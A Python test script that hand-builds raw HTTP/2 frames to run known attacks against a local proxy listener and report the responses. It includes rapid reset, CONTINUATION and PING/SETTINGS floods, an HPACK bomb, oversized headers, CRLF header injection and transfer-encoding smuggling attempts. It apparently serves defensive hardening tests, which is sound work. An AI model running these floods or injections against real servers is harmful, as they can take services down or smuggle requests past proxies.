#!/usr/bin/env python3
"""Raw HTTP/2 attacks (h2c, prior knowledge) against one listener; prints how the server answers each.

The same attacks as switchboard-proxy's Http2ProtectionIT, for servers that are not Switchboard
(HAProxy here): frames built by hand, header blocks as HPACK literals without Huffman coding.
Usage: attacks.py PORT [BACKEND_LOG]  (BACKEND_LOG: a file with one line per request the back end saw)
"""
import os, queue, socket, struct, sys, threading, time

DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, CONT = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 0xb: "ENHANCE_YOUR_CALM"}


def frame(t, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", stream) + payload


def hint(v, prefix, pattern=0):
    m = (1 << prefix) - 1
    if v < m:
        return bytes([pattern | v])
    out = [pattern | m]
    v -= m
    while v >= 0x80:
        out.append((v & 0x7f) | 0x80)
        v >>= 7
    out.append(v)
    return bytes(out)


def hstr(s):
    b = s.encode("latin-1")
    return hint(len(b), 7) + b


def lit(name, value, pattern=0x00, prefix=4):
    return hint(0, prefix, pattern) + hstr(name) + hstr(value)


def req(method, path, *more):
    pairs = [":method", method, ":scheme", "http", ":path", path, ":authority", "localhost"] + list(more)
    return b"".join(lit(pairs[i], pairs[i + 1]) for i in range(0, len(pairs), 2))


def get(stream, path):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, req("GET", path))


class Conn:
    def __init__(self, port, reading=True, rcvbuf=0):
        self.s = socket.socket()
        if rcvbuf:
            self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.s.settimeout(5)
        self.s.connect(("127.0.0.1", port))
        self.q = queue.Queue()
        self.s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        self.s.sendall(frame(SETTINGS, 1, 0))  # ack the server's SETTINGS ahead: allowed to be early for our purpose
        if reading:
            threading.Thread(target=self._read, daemon=True).start()

    def _exact(self, n):
        b = b""
        while len(b) < n:
            c = self.s.recv(n - len(b))
            if not c:
                raise EOFError
            b += c
        return b

    def _read(self):
        deadline = time.time() + 60
        try:
            while time.time() < deadline:
                h = self._exact(9)
                n = int.from_bytes(h[:3], "big")
                p = self._exact(n)
                self.q.put((h[3], h[4], int.from_bytes(h[5:9], "big") & 0x7fffffff, p))
        except (EOFError, OSError):
            pass
        self.q.put(None)

    def send(self, b):
        try:
            self.s.sendall(b)
            return True
        except OSError:
            return False

    def flood(self, chunk, times):
        """Sends chunk times times; how many chunks went before the server closed or went away."""
        for i in range(times):
            if not self.send(chunk) or any(f is None or f[0] == GOAWAY for f in list(self.q.queue)):
                return i
        return times

    def frames(self, wait=3.0):
        """Every frame until the close or wait seconds of silence."""
        out = []
        for _ in range(200000):
            try:
                f = self.q.get(timeout=wait)
            except queue.Empty:
                return out, False
            if f is None:
                return out, True
            out.append(f)
        return out, False

    def close(self):
        self.s.close()


def describe(frames, closed, stream=None):
    parts = []
    for t, fl, st, p in frames:
        if t == GOAWAY:
            code = int.from_bytes(p[4:8], "big")
            parts.append("GOAWAY(%s%s)" % (ERRORS.get(code, hex(code)), ", " + p[8:60].decode("latin-1") if len(p) > 8 else ""))
        elif t == RST and (stream is None or st == stream):
            parts.append("RST_STREAM(%d, %s)" % (st, ERRORS.get(int.from_bytes(p[:4], "big"))))
        elif t == HEADERS and (stream is None or st == stream):
            parts.append("HEADERS(%d, %s)" % (st, static_status(p)))
    counts = {}
    for t, *_ in frames:
        counts[t] = counts.get(t, 0) + 1
    names = {0: "DATA", 1: "HEADERS", 3: "RST", 4: "SETTINGS", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE"}
    summary = ", ".join("%d %s" % (n, names.get(t, t)) for t, n in sorted(counts.items()))
    shown = parts[:6] + (["..."] if len(parts) > 6 else [])
    return "%s | frames: %s | %s" % (" ".join(shown) or "-", summary or "none", "closed" if closed else "open")


def static_status(p):
    """The :status of a response block that starts with it (HPACK static table or a literal with its name)."""
    table = {0x88: "200", 0x89: "204", 0x8a: "206", 0x8b: "304", 0x8c: "400", 0x8d: "404", 0x8e: "500"}
    if not p:
        return "?"
    if p[0] in table:
        return ":status " + table[p[0]]
    if p[0] in (0x08, 0x18, 0x48) and len(p) > 2:
        n = p[1] & 0x7f
        return ":status " + ("(huffman)" if p[1] & 0x80 else p[2:2 + n].decode("latin-1"))
    return "?"


def backend_count(log):
    if not log or not os.path.exists(log):
        return "?"
    with open(log) as f:
        return str(sum(1 for _ in f))


def main():
    port = int(sys.argv[1])
    log = sys.argv[2] if len(sys.argv) > 2 else None

    def report(name, text):
        print("%-36s %s | back end requests so far: %s" % (name, text, backend_count(log)), flush=True)

    c = Conn(port)
    burst = b"".join(get(1 + 2 * i, "/rr") + frame(RST, 0, 1 + 2 * i, struct.pack(">I", 8)) for i in range(500))
    c.send(burst)
    report("rapid reset (500 HEADERS+RST)", describe(*c.frames()))
    c.close()

    c = Conn(port)
    c.send(frame(HEADERS, END_STREAM, 1, req("GET", "/cont")))
    n = c.flood(frame(CONT, 0, 1, lit("x-fill", "a" * 1000)), 20000)
    report("CONTINUATION growing (20 MB)", "sent %d of 20000 | %s" % (n, describe(*c.frames())))
    c.close()

    c = Conn(port)
    c.send(frame(HEADERS, END_STREAM, 1, req("GET", "/cont0")))
    n = c.flood(frame(CONT, 0, 1) * 1000, 2000)
    report("CONTINUATION empty (2M frames)", "sent %d of 2000 chunks | %s" % (n, describe(*c.frames())))
    c.close()

    c = Conn(port)
    bomb = req("GET", "/bomb") + lit("x-bomb", "b" * 4000, 0x40, 6) + bytes([0x80 | 62]) * 500
    c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, bomb))
    report("HPACK bomb (500 x 4000 B)", describe(*c.frames(), stream=1))
    c.close()

    for name, one in (("PING flood (2000)", frame(PING, 0, 0, b"12345678")), ("SETTINGS flood (2000)", frame(SETTINGS, 0, 0))):
        c = Conn(port)
        c.send(one * 2000)
        report(name, describe(*c.frames()))
        c.close()

    c = Conn(port, reading=False, rcvbuf=4096)
    n = c.flood(frame(PING, 0, 0, b"12345678") * 1000, 500)
    closed = False
    try:
        c.s.settimeout(5)
        for _ in range(100000):
            if not c.s.recv(65536):
                closed = True
                break
    except OSError as e:
        closed = not isinstance(e, socket.timeout)
    report("PING flood, never reading (500k)", "sent %d of 500 chunks | %s" % (n, "closed" if closed else "open"))
    c.close()

    c = Conn(port)
    c.send(b"".join(get(1 + 2 * i, "/delay?ms=1000") for i in range(101)))
    frames, closed = c.frames(wait=8)
    refused = [f[2] for f in frames if f[0] == RST]
    ok = sum(1 for f in frames if f[0] == HEADERS and static_status(f[3]) == ":status 200")
    report("101 streams, max-concurrent 100", "%d x 200, RST_STREAM on %s | %s" % (ok, refused, describe(frames, closed, stream=0)))
    c.close()

    for name, size in (("header list 4200 B over 4096", 4200), ("header list 3500 B", 3500), ("header list 20000 B", 20000)):
        c = Conn(port)
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, req("GET", "/big", "x-big", "x" * size)))
        report(name, describe(*c.frames(), stream=1))
        c.close()

    malformed = [
        ("CR in a value", req("GET", "/m", "x-a", "a\rb"), None),
        ("LF in a value", req("GET", "/m", "x-a", "a\nx-injected: 1"), None),
        ("NUL in a value", req("GET", "/m", "x-a", "a\0b"), None),
        ("space in :path", req("GET", "/a b"), None),
        ("upper-case name", req("GET", "/m", "X-Upper", "v"), None),
        ("connection: close", req("GET", "/m", "connection", "close"), None),
        ("transfer-encoding", req("POST", "/m", "transfer-encoding", "chunked"), b"0\r\n\r\n"),
        ("te: gzip", req("GET", "/m", "te", "gzip"), None),
        ("more DATA than content-length", req("POST", "/m", "content-length", "5"), b"0123456789"),
        ("less DATA than content-length", req("POST", "/m", "content-length", "10"), b"01234"),
    ]
    for name, block, body in malformed:
        c = Conn(port)
        if body is None:
            c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
        else:
            c.send(frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM, 1, body))
        report(name, describe(*c.frames(wait=2), stream=1))
        c.close()


if __name__ == "__main__":
    main()
